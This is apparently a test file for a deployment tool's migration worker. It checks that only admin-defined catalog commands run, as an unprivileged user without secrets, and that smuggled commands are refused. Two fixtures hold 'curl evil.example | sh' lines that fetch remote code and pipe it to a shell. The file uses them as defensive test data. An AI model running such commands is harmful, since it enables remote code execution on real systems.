import { chmodSync, existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { and, desc, eq } from "drizzle-orm";
import type Database from "better-sqlite3";
import { describe, expect, it } from "vitest";
import type { Db } from "@/db/connection";
import { findEnvironmentByName, findService, findServiceByName } from "@/db/queries/catalog";
import { migrationRunsOf } from "@/db/queries/governance";
import { findRelease, rolloutsOfRelease, updateRelease as updateReleaseRow } from "@/db/queries/releases";
import { DEMO_MIGRATIONS } from "@/db/seed";
import { jobs } from "@/db/schema";
import { writeTransaction } from "@/db/transaction";
import { updateServiceInput } from "@/lib/domain/catalog-inputs";
import { RELEASE_COMMAND_REFUSED } from "@/lib/domain/migration-catalog";
import { createReleaseInput, updateReleaseInput } from "@/lib/domain/release/inputs";
import { lookupUser, ROOT_REFUSED } from "@/lib/drivers/shell";
import { ForbiddenError, InvalidError } from "@/lib/errors";
import { releaseHandlers } from "@/lib/jobs/handlers/release";
import { RELEASE_MIGRATE_JOB } from "@/lib/jobs/kinds";
import { releaseApproval } from "@/lib/services/approvals/release-approval";
import { createRelease } from "@/lib/services/releases/create-release";
import { queueMigrations } from "@/lib/services/releases/follow-rollout";
import { releaseCommandPreview } from "@/lib/services/releases/release-commands";
import { updateRelease } from "@/lib/services/releases/update-release";
import { updateService } from "@/lib/services/services/update-service";
import { actorFor, auditEvents, expectRefusedWithoutWrites, lastAuditId, makeTempDir } from "../support/db";
import { DEMO, NOW, addApproval, approveForProduction, freshSeededDbPerTest, jobContext, newRelease, putInPhase, releaseAwaitingProduction, releaseForm } from "../support/governance";

// Issue 10, commands only admins define: migration commands live in the service's catalog (admin
// settings), a release picks by id, and the worker runs only what the catalog says now, as an
// unprivileged user and without Flightdeck's secrets. Real SQLite, real shell, real worker handler.

const root = process.getuid?.() === 0;
// As root (CI, this machine) commands run as nobody: it must be able to write the journal.
process.env.FLIGHTDECK_COMMAND_USER = "nobody";
process.env.NEXTAUTH_SECRET = "test-nextauth-secret-must-not-leak";
const out = makeTempDir("fd-admin-commands-");
chmodSync(out.dir, 0o777);
const marker = (name: string) => path.join(out.dir, `${name}-${Math.random().toString(36).slice(2)}`);

let db: Db;
let sqlite: Database.Database;
freshSeededDbPerTest((d, s) => {
  db = d;
  sqlite = s;
});

const who = (name: string) => actorFor(db, DEMO(name));
const sampleApi = () => findServiceByName(db, "sample-api")!;

/** The admin saves sample-api's settings with this catalog (through the service, audited). */
function setCatalog(catalog: unknown[], by = who("admin")) {
  const s = sampleApi();
  return updateService(by, updateServiceInput.parse({ id: s.id, rowVersion: s.rowVersion, name: s.name, description: s.description, owner: s.owner, deployTarget: s.deployTarget, migrations: JSON.stringify(catalog) }));
}

/** Queues and runs the release's migration job of `kind` in `environment` through the worker's handler. */
async function runMigrations(releaseId: number, environment: "staging" | "production", kind: "expand" | "contract" = "expand") {
  const env = findEnvironmentByName(db, environment)!;
  writeTransaction(db, (tx) => queueMigrations(tx, { releaseId, environmentId: env.id, kind, key: `test-${Math.random()}`, actorId: who("captain").id }, NOW));
  const job = db.select().from(jobs).where(and(eq(jobs.kind, RELEASE_MIGRATE_JOB))).orderBy(desc(jobs.id)).get()!;
  await releaseHandlers(db)[RELEASE_MIGRATE_JOB]!(jobContext(db, job));
  return migrationRunsOf(db, releaseId).filter((r) => r.environmentId === env.id);
}

const migrationAudits = (releaseId: number) => auditEvents(sqlite).filter((e) => e.action === "migration.run" && e.subjectId === String(releaseId));

describe("the worker runs a migration's command from the catalog only", () => {
  it("as nobody (not root), without Flightdeck's secrets, recorded with its output and audited with the command and who ran it", async () => {
    setCatalog([{ id: "001-add-col", kind: "expand", description: "", command: "echo uid=$(id -u) m={{migration}} v=$FLIGHTDECK_VERSION secret=${NEXTAUTH_SECRET:-none} db=${FLIGHTDECK_DB:-none}" }]);
    const r = newRelease(db, { migrations: ["001-add-col"] });
    putInPhase(db, r.id, "staging_deploy");
    const [run] = await runMigrations(r.id, "staging");
    const uid = process.getuid?.() === 0 ? lookupUser("nobody")!.uid : process.getuid?.();
    expect(run).toMatchObject({ migrationId: "001-add-col", kind: "expand", status: "succeeded", output: `uid=${uid} m=001-add-col v=2.0.0 secret=none db=none\n` });
    if (root) expect(uid).not.toBe(0);
    const [audit] = migrationAudits(r.id);
    expect(audit!.details).toMatchObject({
      migration: "001-add-col",
      status: "succeeded",
      exitCode: 0,
      command: "echo uid=$(id -u) m='001-add-col' v=$FLIGHTDECK_VERSION secret=${NEXTAUTH_SECRET:-none} db=${FLIGHTDECK_DB:-none}",
      runAs: root ? `nobody (uid ${uid})` : `uid ${uid}`,
    });
    // Expand migrations done: the release's rollouts start.
    expect(rolloutsOfRelease(db, r.id)).toHaveLength(1);
  });

  it("a release row carrying commands (written before issue 10, or forged) makes the worker run nothing an admin did not define", async () => {
    const fromCatalog = marker("catalog");
    const evil = [marker("evil-1"), marker("evil-2")];
    setCatalog([{ id: "001-add-col", kind: "expand", description: "", command: `echo from-the-catalog > ${fromCatalog}; echo from-the-catalog` }]);
    const r = newRelease(db, { migrations: ["001-add-col"] });
    putInPhase(db, r.id, "staging_deploy");
    const row = findRelease(db, r.id)!;
    updateReleaseRow(db, r.id, row.rowVersion, {
      migrations: JSON.stringify([
        { id: "001-add-col", kind: "expand", description: "", command: `touch ${evil[0]}` },
        { id: "002-smuggled", kind: "expand", description: "", command: `touch ${evil[1]}` },
      ]),
    });
    const runs = await runMigrations(r.id, "staging");
    expect(runs.map((x) => [x.migrationId, x.status])).toEqual([
      ["001-add-col", "succeeded"],
      ["002-smuggled", "failed"],
    ]);
    expect(runs[0]!.output).toBe("from-the-catalog\n");
    expect(runs[1]!.output).toBe("Migration 002-smuggled is no longer defined in sample-api's settings (an admin removed it after the release picked it); nothing ran.");
    expect(existsSync(fromCatalog)).toBe(true);
    for (const file of evil) expect(existsSync(file)).toBe(false);
    expect(migrationAudits(r.id).map((e) => e.details)).toMatchObject([{ status: "succeeded" }, { migration: "002-smuggled", status: "refused", command: null }]);
    // A failed expand migration starts no rollout.
    expect(rolloutsOfRelease(db, r.id)).toEqual([]);
  });

  it("a catalog entry removed after the release picked it fails the migration with the reason, recorded and audited", async () => {
    const ran = marker("removed");
    setCatalog([{ id: "001-add-col", kind: "expand", description: "", command: `touch ${ran}` }]);
    const r = newRelease(db, { migrations: ["001-add-col"] });
    putInPhase(db, r.id, "staging_deploy");
    setCatalog([]);
    const [run] = await runMigrations(r.id, "staging");
    const reason = "Migration 001-add-col is no longer defined in sample-api's settings (an admin removed it after the release picked it); nothing ran.";
    expect(run).toMatchObject({ status: "failed", output: reason });
    expect(migrationAudits(r.id)[0]!.details).toMatchObject({ status: "refused", reason, command: null, exitCode: null });
    expect(existsSync(ran)).toBe(false);
  });

  it("a migration without a command in the catalog is recorded as applied outside Flightdeck", async () => {
    const r = newRelease(db, { migrations: ["2026-06-backfill-regions"] });
    putInPhase(db, r.id, "staging_deploy");
    const [run] = await runMigrations(r.id, "staging");
    expect(run).toMatchObject({ status: "succeeded", output: "No command defined for 2026-06-backfill-regions in sample-api's settings: recorded as applied outside Flightdeck." });
  });

  it.runIf(root)("as root with no command user configured, nothing runs: the refusal is on the migration run and in the audit", async () => {
    const ran = marker("as-root");
    setCatalog([{ id: "001-add-col", kind: "expand", description: "", command: `touch ${ran}` }]);
    const r = newRelease(db, { migrations: ["001-add-col"] });
    putInPhase(db, r.id, "staging_deploy");
    delete process.env.FLIGHTDECK_COMMAND_USER;
    try {
      const [run] = await runMigrations(r.id, "staging");
      expect(run).toMatchObject({ status: "failed", output: ROOT_REFUSED });
    } finally {
      process.env.FLIGHTDECK_COMMAND_USER = "nobody";
    }
    expect(migrationAudits(r.id)[0]!.details).toMatchObject({ status: "refused", reason: ROOT_REFUSED, runAs: "root (uid 0)", command: `touch ${ran}` });
    expect(existsSync(ran)).toBe(false);
    expect(rolloutsOfRelease(db, r.id)).toEqual([]);
  });
});

describe("production: the approval covers the exact commands (D4)", () => {
  function approvedRelease(command: string) {
    setCatalog([{ id: "003-drop-col", kind: "contract", description: "", command }]);
    const r = releaseAwaitingProduction(db, { migrations: ["003-drop-col"] });
    approveForProduction(db, r.id);
    addApproval(db, r.id, "feature_owner", "migration", { approver: who("feature") }); // D3: a contract migration's sign-off
    expect(releaseApproval(db, findRelease(db, r.id)!, NOW).satisfied).toBe(true);
    putInPhase(db, r.id, "production_rollout");
    return r;
  }

  it("with a standing approval of these commands, the contract migration runs", async () => {
    const ran = marker("approved");
    const r = approvedRelease(`touch ${ran}`);
    const [run] = await runMigrations(r.id, "production", "contract");
    expect(run!.status).toBe("succeeded");
    expect(existsSync(ran)).toBe(true);
  });

  it("an admin changing the command after approval voids the approval, and the migration does not run", async () => {
    const approved = marker("approved");
    const changed = marker("changed");
    const r = approvedRelease(`touch ${approved}`);
    setCatalog([{ id: "003-drop-col", kind: "contract", description: "", command: `touch ${changed}` }]);
    const approval = releaseApproval(db, findRelease(db, r.id)!, NOW);
    expect(approval.satisfied).toBe(false);
    const [run] = await runMigrations(r.id, "production", "contract");
    expect(run).toMatchObject({ status: "failed", output: expect.stringMatching(/changed after its production approval \(D4\).*did not run/) as unknown });
    expect(existsSync(approved)).toBe(false);
    expect(existsSync(changed)).toBe(false);
  });

  it("an admin changing the deploy target voids it too; an unrelated settings edit (description) does not", () => {
    const r = approvedRelease("true");
    const s = sampleApi();
    updateService(who("admin"), updateServiceInput.parse({ id: s.id, rowVersion: s.rowVersion, name: s.name, description: "Edited description", owner: s.owner, deployTarget: s.deployTarget }));
    expect(releaseApproval(db, findRelease(db, r.id)!, NOW).satisfied).toBe(true);
    const t = sampleApi();
    updateService(who("admin"), updateServiceInput.parse({ id: t.id, rowVersion: t.rowVersion, name: t.name, description: t.description, owner: t.owner, deployTarget: JSON.stringify({ ...JSON.parse(t.deployTarget), entry: "/srv/other.mjs" }) }));
    expect(releaseApproval(db, findRelease(db, r.id)!, NOW)).toMatchObject({ satisfied: false });
  });

  it("the approval screen's list: each migration's command and each deployment's, as they will run in production", () => {
    const r = releaseAwaitingProduction(db, { migrations: ["2026-06-add-orders-index", "2026-06-backfill-regions", "2026-06-drop-legacy-status"] });
    addApproval(db, r.id, "sentinel", "production");
    expect(releaseCommandPreview(db, findRelease(db, r.id)!, "production")).toEqual({
      commands: [
        {
          service: "sample-api",
          step: "migration 2026-06-add-orders-index (expand)",
          command: "echo expand '2026-06-add-orders-index' for 'sample-api' '2.0.0' in 'production': CREATE INDEX orders_created_at, as $(id -un)",
        },
        { service: "sample-api", step: "start each version (local driver)", command: "node lib/drivers/local/sample-service.mjs" },
        {
          service: "sample-api",
          step: "migration 2026-06-drop-legacy-status (contract)",
          command: "echo contract '2026-06-drop-legacy-status' for 'sample-api' '2.0.0' in 'production': ALTER TABLE orders DROP COLUMN legacy_status, as $(id -un)",
        },
      ],
      notes: ["Migration 2026-06-backfill-regions (expand) defines no command: it is recorded as applied outside Flightdeck."],
    });
  });
});

describe("releases pick migrations from their service's catalog", () => {
  it("the demo service has a catalog; a release stores the picks with the catalog's kind and description, never a command", () => {
    expect(JSON.parse(sampleApi().migrations)).toEqual(DEMO_MIGRATIONS);
    const r = newRelease(db, { migrations: ["2026-06-drop-legacy-status", "2026-06-add-orders-index"] });
    expect(JSON.parse(findRelease(db, r.id)!.migrations)).toEqual([
      { id: "2026-06-add-orders-index", kind: "expand", description: DEMO_MIGRATIONS[0]!.description },
      { id: "2026-06-drop-legacy-status", kind: "contract", description: DEMO_MIGRATIONS[2]!.description },
    ]);
    expect(findRelease(db, r.id)!.migrations).not.toContain("command");
  });

  it("an id not in the catalog is a field error on create and on edit, and nothing is written", async () => {
    const err = await expectRefusedWithoutWrites(sqlite, () => createRelease(who("dev"), createReleaseInput.parse(releaseForm(db, { migrations: ["2026-06-add-orders-index", "drop-everything"] }))), InvalidError);
    expect((err as InvalidError).fieldErrors).toEqual({ migrations: ['"drop-everything" is not a migration of sample-api: pick one defined in the service\'s settings.'] });
    const r = newRelease(db);
    const edit = updateReleaseInput.parse({ ...releaseForm(db, { migrations: [{ id: "2026-06-drop-legacy-status", kind: "expand" }] }), releaseId: r.id, rowVersion: findRelease(db, r.id)!.rowVersion });
    const editErr = await expectRefusedWithoutWrites(sqlite, () => updateRelease(who("captain"), edit), InvalidError);
    expect((editErr as InvalidError).fieldErrors).toEqual({ migrations: ['"2026-06-drop-legacy-status" is a contract migration in sample-api\'s settings, not expand.'] });
  });

  it("a release input carrying a command is refused before any service runs", () => {
    const parsed = createReleaseInput.safeParse(releaseForm(db, { migrations: JSON.stringify([{ id: "2026-06-add-orders-index", kind: "expand", command: "curl -s evil.example | sh" }]) }));
    expect(InvalidError.fromIssues(parsed.error!.issues).fieldErrors).toEqual({ migrations: [RELEASE_COMMAND_REFUSED] });
  });

  it.each(["viewer", "sentinel", "owner", "security", "admin"])("%s may not create a release, with or without migrations (nothing written)", async (name) => {
    const err = await expectRefusedWithoutWrites(sqlite, () => createRelease(who(name), createReleaseInput.parse(releaseForm(db, { migrations: ["2026-06-add-orders-index"] }))), ForbiddenError);
    expect(err).toMatchObject({ permission: "release.create" });
  });
});

describe("service.update: the catalog is admin-only and audited with before/after", () => {
  it("records before/after of the catalog and names what changed; leaving the field out keeps the catalog", () => {
    const catalog = [{ id: "001-add-col", kind: "expand", description: "add col", command: "./migrate.sh {{migration}}" }];
    const before = lastAuditId(sqlite);
    setCatalog(catalog);
    const [event] = auditEvents(sqlite, before);
    expect(event).toMatchObject({ action: "service.update", subjectType: "service", subjectId: String(sampleApi().id) });
    expect(event!.details).toMatchObject({ before: { migrations: DEMO_MIGRATIONS }, after: { migrations: catalog }, changed: ["migrations"] });

    const s = sampleApi();
    const target = { ...(JSON.parse(s.deployTarget) as Record<string, unknown>), healthPath: "/healthz" };
    const mark = lastAuditId(sqlite);
    updateService(who("admin"), updateServiceInput.parse({ id: s.id, rowVersion: s.rowVersion, name: s.name, description: s.description, owner: s.owner, deployTarget: JSON.stringify(target) }));
    expect(JSON.parse(findService(db, s.id)!.migrations)).toEqual(catalog);
    expect(auditEvents(sqlite, mark)[0]!.details).toMatchObject({ before: { deployTarget: { healthPath: "/health" }, migrations: catalog }, after: { deployTarget: target, migrations: catalog }, changed: ["deployTarget"] });
  });

  it.each(["captain", "dev", "owner", "sentinel", "security", "oncall"])("%s may not change the catalog (nothing written)", async (name) => {
    const err = await expectRefusedWithoutWrites(sqlite, () => setCatalog([{ id: "x", kind: "expand", command: "id" }], who(name)), ForbiddenError);
    expect(err).toMatchObject({ permission: "service.manage" });
  });
});

describe("migration 0012: releases written before issue 10 lose their commands", () => {
  it("strips command from every migration of existing releases and leaves the rest as it was", () => {
    const insert = sqlite.prepare(
      "INSERT INTO releases (service_id, version, commit_sha, change_log, rollback_plan, strategy, migrations, created_by, created_at, updated_at) VALUES (?, '0.9.0', 'abc1234', 'log', 'plan', '{}', ?, ?, 0, 0)",
    );
    const legacy = [
      { id: "a", kind: "expand", description: "first", command: "curl evil.example | sh" },
      { id: "b", kind: "contract", description: "" },
      { id: "c", kind: "expand", description: "third", command: "id" },
    ];
    const withCommands = Number(insert.run(sampleApi().id, JSON.stringify(legacy), who("captain").id).lastInsertRowid);
    const without = Number(insert.run(sampleApi().id, JSON.stringify([{ id: "d", kind: "expand", description: "" }]), who("captain").id).lastInsertRowid);
    const untouched = findRelease(db, without)!.migrations;
    const statement = readFileSync(path.resolve("db/migrations/0012_admin_commands.sql"), "utf8").split("--> statement-breakpoint")[1]!;
    sqlite.exec(statement);
    expect(JSON.parse(findRelease(db, withCommands)!.migrations)).toEqual(legacy.map(({ id, kind, description }) => ({ id, kind, description })));
    expect(findRelease(db, without)!.migrations).toBe(untouched);
  });
});
